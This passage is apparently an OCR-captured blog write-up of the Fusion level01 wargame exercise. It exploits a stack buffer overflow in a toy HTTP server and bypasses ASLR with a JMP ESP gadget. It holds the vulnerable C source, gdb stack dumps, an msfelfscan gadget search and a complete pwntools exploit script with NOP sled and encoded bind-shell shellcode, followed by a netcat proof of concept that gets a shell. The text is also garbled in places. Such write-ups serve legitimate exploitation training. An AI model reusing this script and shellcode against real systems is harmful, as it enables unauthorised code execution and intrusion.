Binary Exploitation Series Part 2

Welcome back folks to new write-up I was a bit confused between doing heap exploitation or get some intermediate techniques on buffer overflow so in the end I ended up doing buffer overflow exercise but with introducing new technique.

I hope this gonna be informative write-up, now let’s dive into it here’s the C source Code.

#include “../common/common.c”

int fix_path(char *path)
  char resolved[128];
  if(realpath(path, resolved) == NULL) return 1;// can’t access path. will error trying to open
  strcpy(path, resolved);

char *parse_http_request()
  char buffer[1024];
  char *path;
  char *q;

  // printf(“[debug] buffer is at 0x%08x :-)\n”, buffer); 😀

  if(read(0, buffer, sizeof(buffer)) <= 0)
    errx(0, “Failed to read from remote host”);
  if(memcmp(buffer, “GET “, 4) != 0) errx(0, “Not a GET request”);

  path = &buffer[4];
  q = strchr(path, ‘ ‘);
  if(! q) errx(0, “No protocol version specified”);
  *q++ = 0;
  if(strncmp(q, “HTTP/1.1”, 8) != 0) errx(0, “Invalid protocol”);


  printf(“trying to access %s\n”, path);

  return path;

int main(int argc, char **argv, char **envp)
  int fd;
  char *p;

  background_process(NAME, UID, GID);fd = serve_forever(PORT);


As you can see the same exercise as the previous one but this time we are not provided with the address of the buffer and ASLR is enabled so we need to get a way to bypass ASLR and execute our shellcode.

When I first face an exercise with ASLR enabled I try three different methods:

  1. POP RET
  3. CALL / JMP [REG]

In this write-up we will discuss the third method which is the key to solve our problem. As written this exercise is the same as the previous one so we don’t have to check the offset for the return address but this time we want a way to get use of the third method to bypass ASLR. Let’s take a look at this gdb output

gdb-peda$ x/60wx $esp -60
0xbfe31234:     0x41414141      0x41414141      0x41414141      0x41414141
0xbfe31244:     0x41414141      0x41414141      0x41414141      0x41414141
0xbfe31254:     0x41414141      0x41414141      0x41414141      0x41414141
0xbfe31264:     0x41414141      0x41414141      0x42424242      0x90909090
0xbfe31274:     0x05eb02eb      0xfffff9e8      0xef815fff      0xffffffdf
0xbfe31284:     0xc9295e57      0x8ab8c180      0xc0412c07      0x024704e0
0xbfe31294:     0x88412c07      0x49474606      0x4244ede2      0x4146414d
0xbfe312a4:     0x4a494145      0x4146444d      0x41464145      0x424f4a49
0xbfe312b4:     0x4747414c      0x41494e4d      0x434e4244      0x47474346
0xbfe312c4:     0x44424947      0x4445434e      0x44464747      0x424f4a49
0xbfe312d4:     0x41424b47      0x41464246      0x424f4a49      0x4747414c
0xbfe312e4:     0x41494e4d0x4a494145      0x45434545      0x44454541
0xbfe312f4:     0x414c4445      0x4e4d4747      0x44494149      0x4d41454d
0xbfe31304:     0x43464346      0x414c4445      0x4e4d4747      0x444a4149
0xbfe31314:     0x424e4a49      0x5044414c      0x41494e4d      0x41494245
gdb-peda$ i r ebp
ebp            0x41414141       0x41414141
gdb-peda$ i r eip
eip            0x42424242       0x42424242

You can see that ebp and eip are overwritten now if you take a moment and think how CPU executes instructions you will get the idea howwe will use JUMP [REG] method, we know that the stack grows toward lower addresses and shrinks toward higher addresses, so far so good now what will happen when the CPU hits ret instruction it’ll actually POP the value on the top of the stack and store it in EIP register and increment the stack (depends on the arch if it’s 32-bit it’ll add 4 bytes or if it’s 64-bit it’ll add 8 bytes) so the ESP register will point on the top of our stack and that’s very good for us because it actually points to our shellcode see  0xbfe3126f see this address which points to our NOP sledsthin our shellcode I hope you get the idea by now.

We have to overwrite the return address with jmp esp instruction.

  • [Register] → [Shellcode]
  • EIP → JMP/CALL [register]
  • EIP now points to [register] where shellcode.

So to get instruction of jmp esp execute this command

fusion@fusion:/opt/fusion/bin$ /opt/metasploit-framework/msfelfscan -j esp /opt/fusion/bin/level01
0x08049f4f jmp esp

Now the fun part which crafting the python script.

#0x08049f4f jump esp
from pwn import *payload = b”
payload += b’A’*139
payload += b”B”*4
payload += b”\x90″*4
payload +=b”\xeb\x02\xeb\x05\xe8\xf9\xff\xff\xff\x5f\x81\xef\xdf\xff\xff\xff\x57\x5e\x29\xc9\x80\xc1\xb8\x8a\x07\x2c\x41\xc0\xe0\x04\x47\x02\x07\x2c\x41\x88\x06\x46\x47\x49\xe2\xedDBMAFAEAIJMDFAEAFAIJOBLAGGMNIADBNCFCGGGIBDNCEDGGFDIJOBGKBAFBFAIJOBLAGGMNIAEAIJEECEAEEDEDLAGGMNIAIDMEAMFCFCEDLAGGMNIAJDIJNBLADPMNIAEBIAPJADHFPGFCGIGOCPHDGIGICPCPGCGJIJODFCFDIJOBLAALMNIA” # online shellcode which will listen on the localhost on port 5074

r = remote(“”, 20001)
r.sendline(b”GET “+ payload +b” HTTP/1.1″)

To make this attack work just replace the value of BBBB with jump esp instruction.

And here’s the Proof of Concept.

gdb-peda$ quit
fusion@fusion:/opt/fusion/bin$ nc localhost 5074
uid=20001 gid=20001 groups=20001

For more information about jmp [reg] technique check these out:


Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting usingyour account. Log Out /  Change )

Google photo

You are commenting using your Google account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )Facebook photo

You arecommenting using your Facebook account. Log Out /  Change )

Connecting to %s